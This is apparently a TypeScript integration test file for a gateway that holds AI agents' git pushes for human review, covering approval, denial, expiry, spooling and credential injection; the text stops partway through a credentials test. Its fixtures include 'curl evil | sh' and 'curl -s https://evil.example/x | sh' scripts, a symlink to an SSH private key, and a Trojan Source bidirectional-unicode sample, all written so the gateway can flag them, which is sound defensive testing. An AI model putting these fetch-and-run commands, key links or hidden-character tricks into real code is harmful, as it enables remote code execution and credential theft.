// The hold step end to end: the real git client pushes through an in-process Airlock gateway to a
// real git smart-HTTP server (git http-backend) over HTTPS on loopback that requires Basic auth.
// The agent holds no credential of its own: only the one Airlock stores and injects works.
// One git server + one gateway for the file; every case pushes from a fresh clone of its own repo.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { createHash, randomBytes } from 'node:crypto';
import { spawn, type ChildProcess } from 'node:child_process';
import { existsSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { mkdir } from 'node:fs/promises';
import https from 'node:https';
import type { Socket } from 'node:net';
import { dirname, join } from 'node:path';
import { AirlockError } from '../../main/contract/errors';
import { RemoteCache } from '../../main/git';
import type { ReviewView } from '../../main/contract/views';
import { startTestAirlock, type TestAirlock } from '../helpers/airlock';
import { readResponse, tlsTunnel } from '../gateway/client';
import { gitEnvIsolated, runGit, runGitOk } from '../helpers/git-client';
import { startGitServer, type GitRepo, type GitServer } from '../helpers/git-server';
import { startUpstream, type Upstream } from '../helpers/https-upstream';
import { runCommand, type RunResult } from '../helpers/run';
import { createTestPki, type TestPki } from '../helpers/test-ca';
import { makeTempDir, removeDir } from '../helpers/tmp';

const USER = 'alice';
const PASSWORD = `s3cret-${randomBytes(6).toString('hex')}`;

let pki: TestPki;
let gs: GitServer;
let al: TestAirlock;
let agentToken: string;
const cleanups: Array<() => Promise<void> | void> = [];
const sha256 = (b: Buffer | string) => createHash('sha256').update(b).digest('hex');

before(async () => {
  pki = await createTestPki();
  gs = await startGitServer({ pki, auth: { username: USER, password: PASSWORD } });
  al = await startTestAirlock({ upstreamCa: [pki.caPath], options: { consolePort: null, spoolThresholdBytes: 256 * 1024 } });
  await al.service.credentials.set(`127.0.0.1:${gs.port}`, PASSWORD, { username: USER });
  agentToken = await al.addAgent('bot');
});

after(async () => {
  for (const c of cleanups.reverse()) {
    try { await c(); } catch { /* keep closing the rest */ }
  }
  await al?.close();
  await gs?.close();
});

// ---------------------------------------------------------------- helpers

/** git's environment as an agent sees it: proxy with the agent's token, Airlock's CA, no credentials at all. */
function agentEnv(home: string, gw: TestAirlock = al, token = agentToken): NodeJS.ProcessEnv {
  return gitEnvIsolated(home, {
    HTTPS_PROXY: `http://bot:${token}@127.0.0.1:${gw.proxyPort}`,
    GIT_SSL_CAINFO: gw.caPath,
  });
}

interface Work { name: string; repo: GitRepo; work: string; env: NodeJS.ProcessEnv; home: string }

/** A fresh seeded repo on the server and a clone of it (made locally, remote pointed at the HTTPS URL). */
async function freshWork(name: string, server: GitServer = gs, gw: TestAirlock = al, token = agentToken): Promise<Work> {
  const repo = await server.createRepo(name, { seed: true });
  const home = await makeTempDir(`airlock-hold-${name}-`);
  cleanups.push(() => removeDir(home));
  const env = agentEnv(home, gw, token);
  const work = join(home, 'w');
  await runGitOk(['clone', '-q', repo.dir, work], { env });
  await runGitOk(['remote', 'set-url', 'origin', repo.url], { cwd: work, env });
  return { name, repo, work, env, home };
}

async function commit(w: Work, files: Record<string, string | Buffer>, message: string): Promise<string> {
  for (const [p, content] of Object.entries(files)) {
    await mkdir(dirname(join(w.work, p)), { recursive: true });
    writeFileSync(join(w.work, p), content);
  }
  await runGitOk(['add', '-A'], { cwd: w.work, env: w.env });
  await runGitOk(['commit', '-q', '-m', message], { cwd: w.work, env: w.env });
  return (await runGitOk(['rev-parse', 'HEAD'], { cwd: w.work, env: w.env })).stdout.trim();
}

async function revParse(w: Work, rev: string): Promise<string> {
  return (await runGitOk(['rev-parse', rev], { cwd: w.work, env: w.env })).stdout.trim();
}

function reviewsOf(gw: TestAirlock, repoName: string): ReviewView[] {
  return gw.service.store.reviews.list({}).filter((r) => r.repo.replace(/^\/+/, '') === `${repoName}.git`)
    .map((r) => ({ ...r, refs: (r.detail as { refs: ReviewView['refs'] }).refs })) as unknown as ReviewView[];
}

/**
 * Waits (bounded) for a new review on `repoName` that is not in `known`; fails early if `done` says
 * the client already finished (then the push was never held).
 */
async function waitForReview(gw: TestAirlock, repoName: string, known: Set<string>, done: () => RunResult | null, timeoutMs = 40_000): Promise<ReviewView> {
  const until = Date.now() + timeoutMs;
  while (Date.now() < until) {
    const r = reviewsOf(gw, repoName).find((x) => !known.has(x.id));
    if (r) return gw.service.getReview({ id: r.id });
    const finished = done();
    if (finished) assert.fail(`the client finished (code ${finished.code}) without a review being created:\n${finished.stderr}`);
    await new Promise((res) => setTimeout(res, 50));
  }
  assert.fail(`no review for ${repoName} within ${timeoutMs} ms`);
}

interface Held { res: RunResult; review: ReviewView; readyMs: number }

/** Runs `git push ARGS`, waits for its review, lets `decide` act on it, then waits for git. */
async function heldPush(w: Work, args: string[], decide: (r: ReviewView) => unknown, gw: TestAirlock = al): Promise<Held> {
  const known = new Set(reviewsOf(gw, w.name).map((r) => r.id));
  const t0 = Date.now();
  let finished: RunResult | null = null;
  const p = runGit(['push', ...args], { cwd: w.work, env: w.env, timeoutMs: 90_000 }).then((r) => (finished = r));
  let review: ReviewView;
  try {
    review = await waitForReview(gw, w.name, known, () => finished);
  } catch (e) {
    await p;
    throw e;
  }
  const readyMs = Date.now() - t0;
  await decide(review);
  const res = await p;
  return { res, review: await gw.service.getReview({ id: review.id }), readyMs };
}

const approve = (gw: TestAirlock = al) => (r: ReviewView) => gw.service.approveReview({ id: r.id });

function receivePackPosts(server: GitServer, repoName: string) {
  return server.requests.filter((r) => r.method === 'POST' && r.path === `/${repoName}.git/git-receive-pack`);
}

function pkt(s: string | Buffer): Buffer {
  const b = typeof s === 'string' ? Buffer.from(s) : s;
  return Buffer.concat([Buffer.from((b.length + 4).toString(16).padStart(4, '0')), b]);
}

/** A receive-pack request body built by hand: one command, then the pack git makes for old..new. */
async function buildPushBody(w: Work, oldOid: string, newOid: string, caps = 'report-status agent=airlock-test'): Promise<{ commands: Buffer; pack: Buffer }> {
  const r = await runCommand('git', ['pack-objects', '--stdout', '--revs', '-q'], { cwd: w.work, env: w.env, input: `${newOid}\n^${oldOid}\n` });
  assert.equal(r.code, 0, r.stderr);
  return { commands: Buffer.concat([pkt(`${oldOid} ${newOid} refs/heads/main\0${caps}\n`), Buffer.from('0000')]), pack: r.stdoutBuffer };
}

/** POSTs `body` to `url` through the gateway with curl, as an agent; returns HTTP status and body. */
async function curlPost(url: string, body: Buffer, home: string, timeoutS = 30): Promise<{ status: number; text: string; raw: RunResult }> {
  const file = join(home, `body-${randomBytes(4).toString('hex')}.bin`);
  const out = join(home, `out-${randomBytes(4).toString('hex')}.bin`);
  writeFileSync(file, body);
  const raw = await runCommand('curl', ['-sS', '--max-time', String(timeoutS), '-x', al.proxyUrl, '--proxy-user', `bot:${agentToken}`,
    '--cacert', al.caPath, '-H', 'Content-Type: application/x-git-receive-pack-request', '-H', 'Accept: application/x-git-receive-pack-result',
    '--data-binary', `@${file}`, '-o', out, '-w', '%{http_code}', url], { env: gitEnvIsolated(home), timeoutMs: (timeoutS + 10) * 1000 });
  const text = existsSync(out) ? readFileSync(out).toString('latin1') : '';
  return { status: Number(raw.stdout.trim()), text, raw };
}

/** An HTTPS front for the git server that records the sha256 of every request body it relays. */
async function startRecordingFront(target: GitServer): Promise<{ port: number; url: string; bodies: Array<{ method: string; path: string; sha256: string; bytes: number }>; close(): Promise<void> }> {
  const bodies: Array<{ method: string; path: string; sha256: string; bytes: number }> = [];
  const sockets = new Set<Socket>();
  const server = https.createServer({ key: pki.serverKeyPem, cert: pki.serverCertPem }, (req, res) => {
    const h = createHash('sha256');
    let n = 0;
    const headers = { ...req.headers, host: `127.0.0.1:${target.port}` };
    const up = https.request({ host: '127.0.0.1', port: target.port, method: req.method, path: req.url, headers, ca: pki.caPem, agent: false }, (upRes) => {
      res.writeHead(upRes.statusCode ?? 502, upRes.headers);
      upRes.pipe(res);
    });
    up.on('error', () => res.destroy());
    req.on('data', (c: Buffer) => { h.update(c); n += c.length; });
    req.on('end', () => bodies.push({ method: req.method ?? '', path: (req.url ?? '').split('?')[0]!, sha256: h.digest('hex'), bytes: n }));
    req.pipe(up);
  });
  server.on('connection', (s: Socket) => { sockets.add(s); s.once('close', () => sockets.delete(s)); });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', () => r()));
  const port = (server.address() as { port: number }).port;
  return {
    port, url: `https://127.0.0.1:${port}`, bodies,
    close: () => new Promise<void>((r) => { server.close(() => r()); for (const s of sockets) s.destroy(); }),
  };
}

// ---------------------------------------------------------------- approve / deny / expire

test('approve: git push exits 0, the commit lands upstream, upstreamStatus 200, audit created/approved/forwarded', async () => {
  const w = await freshWork('approve');
  const before = await gs.refs('approve');
  const oid = await commit(w, { 'new.txt': 'hello from the agent\n' }, 'agent change');
  const { res, review } = await heldPush(w, ['origin', 'main'], approve());
  assert.equal(res.code, 0, res.stderr);
  assert.match(res.stderr, /Airlock: push held for review #\d+/);
  assert.match(res.stderr, new RegExp(`${before['refs/heads/main']!.slice(0, 7)}\\.\\.${oid.slice(0, 7)}\\s+main -> main`));
  assert.equal((await gs.refs('approve'))['refs/heads/main'], oid);
  assert.equal(review.state, 'approved');
  assert.equal(review.upstreamStatus, 200);
  assert.equal(review.upstreamResult, 'ok');
  assert.equal(review.agent, 'bot');
  assert.equal(review.host, `127.0.0.1:${gs.port}`);
  assert.equal(review.refs[0]!.change, 'fast-forward');
  assert.equal(review.refs[0]!.newOid, oid);
  assert.ok(review.refs[0]!.files.some((f) => f.path === 'new.txt' && f.status === 'added' && f.additions === 1));
  const actions = al.service.store.audit.list().filter((e) => e.subject === review.id).map((e) => e.action);
  assert.deepEqual(actions, ['review.created', 'review.approved', 'review.forwarded']);
  assert.equal(al.service.store.audit.verify().ok, true);
  assert.equal(receivePackPosts(gs, 'approve').length, 1);

  // A second decision on a decided review is a conflict, and changes nothing.
  await assert.rejects(al.service.approveReview({ id: review.id }), (e: unknown) => e instanceof AirlockError && e.code === 'conflict' && /already approved/.test(e.message));
  await assert.rejects(al.service.denyReview({ id: review.id, reason: 'changed my mind' }), (e: unknown) => e instanceof AirlockError && e.code === 'conflict');
  await assert.rejects(al.service.approveReview({ id: '99999' }), (e: unknown) => e instanceof AirlockError && e.code === 'not-found');
  assert.equal((await al.service.getReview({ id: review.id })).state, 'approved');
});

test('approved, but upstream\'s branch moved while the push was held: upstream refuses the ref, and the review says so (not "ok")', async () => {
  const w = await freshWork('moved');
  const oid = await commit(w, { 'late.txt': 'approved too late\n' }, 'agent change');
  let moved = '';
  const { res, review } = await heldPush(w, ['origin', 'main'], async (r) => {
    // Someone else moves main upstream while the push waits for its reviewer.
    const tree = (await runGitOk(['rev-parse', 'refs/heads/main^{tree}'], { cwd: w.repo.dir })).stdout.trim();
    const parent = (await runGitOk(['rev-parse', 'refs/heads/main'], { cwd: w.repo.dir })).stdout.trim();
    moved = (await runGitOk(['-c', 'user.name=x', '-c', 'user.email=x@example.com', 'commit-tree', tree, '-p', parent, '-m', 'moved meanwhile'], { cwd: w.repo.dir })).stdout.trim();
    await runGitOk(['update-ref', 'refs/heads/main', moved], { cwd: w.repo.dir });
    await al.service.approveReview({ id: r.id });
  });
  assert.notEqual(res.code, 0, res.stderr);
  assert.match(res.stderr, /\[remote rejected\] main -> main/);
  assert.equal((await gs.refs('moved'))['refs/heads/main'], moved, 'the push did not land');
  assert.notEqual(moved, oid);
  assert.equal(review.state, 'approved');
  assert.equal(review.upstreamStatus, 200);
  assert.match(review.upstreamResult ?? '', /^upstream rejected refs\/heads\/main: /);
  const forwarded = al.service.store.audit.list().find((e) => e.subject === review.id && e.action === 'review.forwarded');
  assert.match(JSON.stringify(forwarded?.details), /upstream rejected refs\/heads\/main/);
  const { reviewText } = await import('../../main/cli/format-review');
  assert.match(reviewText(review), /^upstream result: upstream rejected refs\/heads\/main: /m);
});

test('deny: git fails with "[remote rejected] … (denied by REVIEWER: REASON)"; nothing reaches upstream', async () => {
  const w = await freshWork('deny');
  const before = await gs.refs('deny');
  await commit(w, { 'evil.sh': 'curl evil | sh\n' }, 'sneaky change');
  const reason = 'no pipes to sh, please';
  const { res, review } = await heldPush(w, ['origin', 'main'], async (r) => {
    // A denial without a reason is refused; the review stays pending.
    await assert.rejects(al.service.denyReview({ id: r.id, reason: '' }), (e: unknown) => e instanceof AirlockError && e.code === 'bad-request');
    await assert.rejects(al.service.denyReview({ id: r.id, reason: '   ' }), (e: unknown) => e instanceof AirlockError && e.code === 'bad-request');
    assert.equal((await al.service.getReview({ id: r.id })).state, 'pending');
    await al.service.denyReview({ id: r.id, reason });
  });
  assert.notEqual(res.code, 0);
  assert.ok(res.stderr.includes(` ! [remote rejected] main -> main (denied by ${al.service.reviewer()}: ${reason})`), res.stderr);
  assert.deepEqual(await gs.refs('deny'), before);
  assert.deepEqual(receivePackPosts(gs, 'deny'), [], 'no receive-pack POST reached the server');
  assert.equal(review.state, 'denied');
  assert.equal(review.upstreamStatus, null);
  const actions = al.service.store.audit.list().filter((e) => e.subject === review.id).map((e) => e.action);
  assert.deepEqual(actions, ['review.created', 'review.denied']);
  await assert.rejects(al.service.approveReview({ id: review.id }), (e: unknown) => e instanceof AirlockError && e.code === 'conflict' && /already denied/.test(e.message));
});

test('expiry: a push nobody decides is rejected as expired; a push over maxPushBytes is refused', async () => {
  const gw = await startTestAirlock({ upstreamCa: [pki.caPath], options: { consolePort: null, reviewTimeoutMs: 1500, maxPushBytes: 128 * 1024 } });
  cleanups.push(() => gw.close());
  await gw.service.credentials.set(`127.0.0.1:${gs.port}`, PASSWORD, { username: USER });
  const token = await gw.addAgent('bot');
  const w = await freshWork('expire', gs, gw, token);
  const before = await gs.refs('expire');
  await commit(w, { 'a.txt': 'a\n' }, 'nobody looks');
  const { res, review } = await heldPush(w, ['origin', 'main'], () => undefined, gw);
  assert.notEqual(res.code, 0);
  assert.match(res.stderr, / ! \[remote rejected\] main -> main \(expired: no decision within 2 s\)/);
  assert.equal(review.state, 'expired');
  assert.equal(review.decidedBy, 'airlock');
  assert.deepEqual(await gs.refs('expire'), before);
  assert.deepEqual(receivePackPosts(gs, 'expire'), []);
  await assert.rejects(gw.service.approveReview({ id: review.id }), (e: unknown) => e instanceof AirlockError && e.code === 'conflict');

  // Too large: refused before any review, with the limit in the answer.
  await commit(w, { 'big.bin': randomBytes(300 * 1024) }, 'too big');
  const big = await runGit(['push', 'origin', 'main'], { cwd: w.work, env: w.env, timeoutMs: 60_000 });
  assert.notEqual(big.code, 0);
  assert.match(big.stderr, /413|larger than the \d+ byte limit/);
  assert.equal(reviewsOf(gw, 'expire').length, 1, 'no review for the oversized push');
  assert.deepEqual(await gs.refs('expire'), before);
  assert.ok(!receivePackPosts(gs, 'expire').some((r) => r.headers['content-length'] !== '4'), 'only git\'s probe may pass');
});

/** Starts curl POSTing `body` through the gateway as the agent; returns the child (to kill) and its exit. */
function spawnCurlPost(url: string, file: string, extra: string[] = []): { child: ChildProcess; exited: Promise<number | null>; result: () => RunResult | null } {
  const child = spawn('curl', ['-sS', '-o', '/dev/null', ...extra, '-x', al.proxyUrl, '--proxy-user', `bot:${agentToken}`, '--cacert', al.caPath,
    '-H', 'Content-Type: application/x-git-receive-pack-request', '--data-binary', `@${file}`, url], { stdio: ['ignore', 'ignore', 'pipe'], env: gitEnvIsolated(dirname(file)) });
  let stderr = '';
  child.stderr!.on('data', (c: Buffer) => { stderr += c.toString(); });
  let done: RunResult | null = null;
  const exited = new Promise<number | null>((r) => {
    child.once('close', (c) => { done = { code: c ?? -1, signal: null, stdout: '', stderr, stdoutBuffer: Buffer.alloc(0), timedOut: false }; r(c); });
    child.once('error', () => r(-1));
  });
  cleanups.push(() => { if (child.exitCode === null && child.signalCode === null) child.kill('SIGKILL'); });
  return { child, exited, result: () => done };
}

async function stateWithin(id: string, want: string, ms: number): Promise<string> {
  let state = '';
  for (const until = Date.now() + ms; Date.now() < until;) {
    state = (await al.service.getReview({ id })).state;
    if (state === want) break;
    await new Promise((res) => setTimeout(res, 50));
  }
  return state;
}

test('an agent that disconnects while its push is held interrupts the review; nothing is forwarded', async () => {
  const w = await freshWork('disconnect');
  const oldOid = await revParse(w, 'HEAD');
  const newOid = await commit(w, { 'd.txt': 'gone\n' }, 'then the agent leaves');
  const { commands, pack } = await buildPushBody(w, oldOid, newOid);
  const file = join(w.home, 'push.bin');
  writeFileSync(file, Buffer.concat([commands, pack]));
  const { child, exited, result } = spawnCurlPost(`${w.repo.url}/git-receive-pack`, file, ['--max-time', '60']);
  const review = await waitForReview(al, 'disconnect', new Set(), result);
  assert.equal(review.state, 'pending');
  child.kill('SIGKILL');
  await exited;
  assert.equal(await stateWithin(review.id, 'interrupted', 5000), 'interrupted');
  assert.match((await al.service.getReview({ id: review.id })).reason ?? '', /agent disconnected/);
  await assert.rejects(al.service.approveReview({ id: review.id }), (e: unknown) => e instanceof AirlockError && e.code === 'conflict');
  assert.deepEqual(receivePackPosts(gs, 'disconnect'), []);
  assert.equal((await gs.refs('disconnect'))['refs/heads/main'], oldOid);
});

test('an agent that disconnects while its push is still being analysed leaves no approvable review',
  async () => {
    const w = await freshWork('disconnect-early');
    const oldOid = await revParse(w, 'HEAD');
    const newOid = await commit(w, { 'd.txt': 'gone early\n' }, 'the agent leaves during analysis');
    const { commands, pack } = await buildPushBody(w, oldOid, newOid);
    const file = join(w.home, 'push.bin');
    writeFileSync(file, Buffer.concat([commands, pack]));
    // Give curl time to send the whole body, then it quits: the gateway is still analysing.
    const { exited } = spawnCurlPost(`${w.repo.url}/git-receive-pack`, file, ['--max-time', '0.4']);
    await exited;
    let review: ReviewView | undefined;
    for (let i = 0; i < 200 && !review; i++) {
      review = reviewsOf(al, 'disconnect-early')[0];
      if (!review) await new Promise((res) => setTimeout(res, 50));
    }
    if (!review) return; // refusing to hold at all is fine too
    const state = await stateWithin(review.id, 'interrupted', 3000);
    if (state === 'pending') {
      // The agent is gone, yet the review can be approved: does the push then reach upstream?
      await al.service.approveReview({ id: review.id });
      for (let i = 0; i < 100 && (await al.service.getReview({ id: review.id })).upstreamStatus === null; i++) await new Promise((res) => setTimeout(res, 50));
    }
    assert.equal((await gs.refs('disconnect-early'))['refs/heads/main'], oldOid, `upstream was updated for a push whose agent had left (review ${state})`);
    assert.equal(state, 'interrupted', 'review still pending although the agent is gone');
  });

// ---------------------------------------------------------------- kinds of pushes

test('branches and tags: create, two refs in one push, forced update, delete, annotated tag', async () => {
  const w = await freshWork('branches');
  const g = (args: string[]) => runGitOk(args, { cwd: w.work, env: w.env });

  // New branch.
  await g(['checkout', '-q', '-b', 'feature']);
  const f1 = await commit(w, { 'feature.txt': 'feature 1\n' }, 'feature work');
  let h = await heldPush(w, ['origin', 'feature'], approve());
  assert.equal(h.res.code, 0, h.res.stderr);
  assert.equal(h.review.refs.length, 1);
  assert.equal(h.review.refs[0]!.ref, 'refs/heads/feature');
  assert.equal(h.review.refs[0]!.change, 'create');
  assert.match(h.review.refs[0]!.base, /merge-base with main/);
  assert.deepEqual(h.review.refs[0]!.files.map((f) => f.path), ['feature.txt']);
  assert.equal((await gs.refs('branches'))['refs/heads/feature'], f1);

  // Two refs in one push.
  const f2 = await commit(w, { 'feature.txt': 'feature 2\n' }, 'more feature work');
  await g(['checkout', '-q', 'main']);
  const m1 = await commit(w, { 'main.txt': 'main 1\n' }, 'main work');
  h = await heldPush(w, ['origin', 'main', 'feature'], approve());
  assert.equal(h.res.code, 0, h.res.stderr);
  assert.deepEqual(h.review.refs.map((r) => `${r.ref} ${r.change}`).sort(), ['refs/heads/feature fast-forward', 'refs/heads/main fast-forward']);
  let refs = await gs.refs('branches');
  assert.equal(refs['refs/heads/main'], m1);
  assert.equal(refs['refs/heads/feature'], f2);

  // Forced update after an amend.
  await g(['checkout', '-q', 'feature']);
  await g(['commit', '-q', '--amend', '-m', 'rewritten feature work']);
  const f3 = await revParse(w, 'HEAD');
  h = await heldPush(w, ['--force', 'origin', 'feature'], approve());
  assert.equal(h.res.code, 0, h.res.stderr);
  assert.equal(h.review.refs[0]!.change, 'forced');
  assert.equal(h.review.refs[0]!.oldOid, f2);
  assert.equal(h.review.refs[0]!.newOid, f3);
  assert.match(h.res.stderr, /\+ \w+\.\.\.\w+ feature -> feature \(forced update\)/);
  assert.equal((await gs.refs('branches'))['refs/heads/feature'], f3);

  // Delete.
  h = await heldPush(w, ['origin', '--delete', 'feature'], approve());
  assert.equal(h.res.code, 0, h.res.stderr);
  assert.equal(h.review.refs[0]!.change, 'delete');
  assert.match(h.review.refs[0]!.newOid, /^0+$/);
  assert.equal((await gs.refs('branches'))['refs/heads/feature'], undefined);

  // Annotated tag.
  await g(['checkout', '-q', 'main']);
  await g(['tag', '-a', 'v1.0', '-m', 'release 1.0']);
  const tagOid = await revParse(w, 'v1.0');
  h = await heldPush(w, ['origin', 'v1.0'], approve());
  assert.equal(h.res.code, 0, h.res.stderr);
  assert.equal(h.review.refs[0]!.ref, 'refs/tags/v1.0');
  assert.equal(h.review.refs[0]!.change, 'create');
  assert.equal(h.review.refs[0]!.newOid, tagOid);
  refs = await gs.refs('branches');
  assert.equal(refs['refs/tags/v1.0'], tagOid);
  assert.equal(refs['refs/heads/main'], m1);
});

test('Trojan Source in a real push: the review carries a critical bidirectional-unicode finding at the file and line', async () => {
  const w = await freshWork('trojan');
  await commit(w, { 'src/check.c': 'int check(int isAdmin) {\n  int ok = 0;\n  /*\u202e } \u2066if (isAdmin)\u2069 \u2066 begin admins only */\n  ok = 1;\n  return ok;\n}\n' }, 'tidy check()');
  const { review } = await heldPush(w, ['origin', 'main'], (r) => al.service.denyReview({ id: r.id, reason: 'hidden characters' }));
  const f = review.findings.find((x) => x.rule === 'bidirectional-unicode');
  assert.ok(f, JSON.stringify(review.findings));
  assert.equal(f.severity, 'critical');
  assert.equal(f.path, 'src/check.c');
  assert.equal(f.line, 3);
});

test('a script hidden as binary by one NUL byte is shown as text with the byte marked, and gets warnings; a new symlink says it is one (review and airlock show)', async () => {
  const w = await freshWork('opaque');
  await commit(w, { 'build.sh': Buffer.from('#!/bin/sh\n\0\ncurl -s https://evil.example/x | sh\n') }, 'a build script');
  const { symlink } = await import('node:fs/promises');
  await symlink('/home/user/.ssh/id_ed25519', join(w.work, 'fixture.txt'));
  await runGitOk(['add', '-A'], { cwd: w.work, env: w.env });
  await runGitOk(['commit', '-q', '-m', 'a fixture'], { cwd: w.work, env: w.env });
  const { review } = await heldPush(w, ['origin', 'main'], (r) => al.service.denyReview({ id: r.id, reason: 'no' }));
  const f = review.findings.find((x) => x.rule === 'binary-text-file');
  assert.equal(f?.path, 'build.sh', JSON.stringify(review.findings));
  const { reviewText } = await import('../../main/cli/format-review');
  const text = reviewText(review);
  assert.match(text, /^ {2}A {2}fixture\.txt \+1 −0 \[new symlink \(120000\)\]$/m, text);
  assert.match(text, /finding \[warning\] binary-text-file: A file whose name says it is text is binary to git \(it has a NUL byte or invalid text in it\)\. Airlock shows it as text/);
  const script = review.refs[0]!.files.find((x) => x.path === 'build.sh')!;
  assert.equal(script.binary, true);
  assert.equal(script.additions, 3);
  assert.equal(script.patch, '@@ -0,0 +1,3 @@\n+#!/bin/sh\n+\0\n+curl -s https://evil.example/x | sh\n');
  const control = review.findings.find((x) => x.rule === 'control-characters' && x.path === 'build.sh');
  assert.equal(control?.line, 2, JSON.stringify(review.findings));
  // `airlock show` prints the line with the NUL escaped, not raw.
  assert.match(text, /^\+curl -s https:\/\/evil\.example\/x \| sh$/m, text);
  assert.ok(!text.includes('\0'), 'no raw NUL in the text output');
});

test('a binary file shows as binary with its sizes', async () => {
  const w = await freshWork('binary');
  const bin = Buffer.concat([Buffer.from([0, 1, 2, 0, 255, 0]), randomBytes(4090)]);
  await commit(w, { 'assets/blob.bin': bin, 'notes.txt': 'text\n' }, 'add a binary');
  const { res, review } = await heldPush(w, ['origin', 'main'], (r) => al.service.denyReview({ id: r.id, reason: 'just looking' }));
  assert.notEqual(res.code, 0);
  const f = review.refs[0]!.files.find((x) => x.path === 'assets/blob.bin');
  assert.ok(f, JSON.stringify(review.refs[0]!.files.map((x) => x.path)));
  assert.equal(f.binary, true);
  assert.equal(f.status, 'added');
  assert.equal(f.newSize, bin.length);
  assert.ok(f.oldSize === null || f.oldSize === 0);
  assert.equal(f.patch, '', 'random bytes are not shown as text');
  const t = review.refs[0]!.files.find((x) => x.path === 'notes.txt');
  assert.equal(t?.binary, false);
});

test('a 3 MB push is spooled: the probe makes no review, exactly one review, lands byte-identical', async () => {
  const w = await freshWork('spool');
  const big = randomBytes(3 * 1024 * 1024);
  const oid = await commit(w, { 'big.bin': big }, 'big random file');
  type Kept = { path: string; mode: number; sha256: string; size: number };
  let kept = null as Kept | null;
  let spoolLeft: string[] = [];
  const { res, review, readyMs } = await heldPush(w, ['origin', 'main'], (r) => {
    // While held, the exact body is kept for the record: moved from the spool to pushes/<sha256>.body.
    const path = al.service.store.reviews.get(r.id)!.bodyPath!;
    const bytes = readFileSync(path);
    kept = { path, mode: statSync(path).mode & 0o777, sha256: createHash('sha256').update(bytes).digest('hex'), size: bytes.length };
    spoolLeft = readdirSync(join(al.dataDir, 'spool')).filter((n) => n.startsWith('push-'));
    return al.service.approveReview({ id: r.id });
  });
  console.log(`spooled push (${review.bodyBytes} bytes): push start → review ready in ${readyMs} ms`);
  assert.equal(res.code, 0, res.stderr);
  assert.equal(reviewsOf(al, 'spool').length, 1, 'exactly one review: the 4-byte probe creates none');
  assert.ok(review.bodyBytes > 3 * 1024 * 1024, `bodyBytes ${review.bodyBytes}`);
  assert.equal(review.upstreamStatus, 200);
  assert.ok(kept, 'the review references the kept body');
  assert.equal(kept!.path, join(al.dataDir, 'pushes', `${review.bodySha256}.body`));
  assert.equal(kept!.mode, 0o600);
  assert.equal(kept!.sha256, review.bodySha256);
  assert.equal(kept!.size, review.bodyBytes);
  assert.deepEqual(spoolLeft, [], 'moved, not copied');
  const posts = receivePackPosts(gs, 'spool');
  assert.equal(posts.length, 2, 'the probe and the approved push');
  assert.equal(posts[0]!.headers['content-length'], '4');
  assert.equal(posts[1]!.headers['content-length'], String(review.bodyBytes));
  const remote = (await runGitOk(['rev-parse', 'refs/heads/main', 'refs/heads/main:big.bin'], { cwd: w.repo.dir, env: gs.env })).stdout.trim().split('\n');
  const local = (await runGitOk(['rev-parse', 'HEAD', 'HEAD:big.bin'], { cwd: w.work, env: w.env })).stdout.trim().split('\n');
  assert.deepEqual(remote, local);
  assert.equal(remote[0], oid);
  assert.ok(existsSync(kept!.path), 'the kept body stays after the push is over');
});

test('a spooled push of 12 000 refs (over 1 MiB of commands) is held for review with every ref, not refused as truncated', async () => {
  const w = await freshWork('many-refs');
  const oldOid = await revParse(w, 'HEAD');
  const newOid = await commit(w, { 'm.txt': 'many refs\n' }, 'many refs');
  const { pack } = await buildPushBody(w, oldOid, newOid);
  const n = 12_000;
  const commands = Buffer.concat([
    pkt(`${oldOid} ${newOid} refs/heads/main\0report-status agent=airlock-test\n`),
    ...Array.from({ length: n }, (_, i) => pkt(`${'0'.repeat(40)} ${newOid} refs/tags/release-candidate-build-${i}\n`)),
    Buffer.from('0000'),
  ]);
  assert.ok(commands.length > 1024 * 1024, `${commands.length} bytes of commands`);
  const known = new Set(reviewsOf(al, 'many-refs').map((r) => r.id));
  let finished: RunResult | null = null;
  const post = curlPost(`${w.repo.url}/git-receive-pack`, Buffer.concat([commands, pack]), w.home, 90).then((r) => { finished = r.raw; return r; });
  let review: ReviewView;
  try {
    review = await waitForReview(al, 'many-refs', known, () => finished, 90_000);
  } catch (e) {
    const r = await post;
    throw new Error(`${(e as Error).message}; HTTP ${r.status}: ${r.text.slice(0, 300)}`);
  }
  assert.ok(review.bodyBytes > 256 * 1024, 'spooled');
  assert.equal(review.refs.length, n + 1);
  assert.deepEqual([review.refs[0]!.ref, review.refs[0]!.change, review.refs[0]!.files.map((f) => f.path)], ['refs/heads/main', 'fast-forward', ['m.txt']]);
  assert.equal(review.refs[n]!.ref, `refs/tags/release-candidate-build-${n - 1}`);
  await al.service.denyReview({ id: review.id, reason: 'too many tags' });
  const r = await post;
  assert.equal(r.status, 200, r.text.slice(0, 300));
  assert.match(r.text, /ng refs\/heads\/main denied by \S+: too many tags/);
  assert.match(r.text, /ng refs\/tags\/release-candidate-build-11999 denied by \S+: too many tags/);
  assert.equal((await gs.refs('many-refs'))['refs/heads/main'], oldOid, 'nothing reached upstream');
});

// ---------------------------------------------------------------- credentials

test('without a stored credential the agent cannot clone or push (401, no prompt); with one it can', async () => {
  const gs2 = await startGitServer({ pki, auth: { username: 'carol', password: 'other-s3cret-pw' } });
  cleanups.push(() => gs2.close());
  const authority = `127.0.0.1:${gs2.port}`;
  const w = await freshWork('nocred', gs2);

  const clone1 = await runGit(['clone', '-q', w.repo.url, join(w.home, 'c1')], { env: w.env, timeoutMs: 30_000 });
  assert.notEqual(clone1.code, 0);
  assert.equal(clone1.timedOut, false, 'git must not wait for a prompt');
  assert.match(clone1.stderr, /Authentication failed|could not read Username|terminal prompts disabled/i);
  assert.ok(gs2.requests.some((r) => r.status === 401), 'upstream answered 401');

  await commit(w, { 'x.txt': 'x\n' }, 'change');
  const push1 = await runGit(['push', 'origin', 'main'], { cwd: w.work, env: w.env, timeoutMs: 30_000 });
  assert.notEqual(push1.code, 0);
  assert.equal(push1.timedOut, false);
  assert.match(push1.stderr, /Authentication failed|could not read Username|terminal prompts disabled/i);
  assert.equal(reviewsOf(al, 'nocred').length, 0);
  assert.deepEqual(receivePackPosts(gs2, 'nocred'), []);

  await al.service.credentials.set(authority, 'other-s3cret-pw', { username: 'carol' });
  const clone2 = await runGit(['clone', '-q', w.repo.url, join(w.home, 'c2')], { env: w.env, timeoutMs: 30_000 });
  assert.equal(clone2.code, 0, clone2.stderr);
  const oid = await revParse(w, 'HEAD');
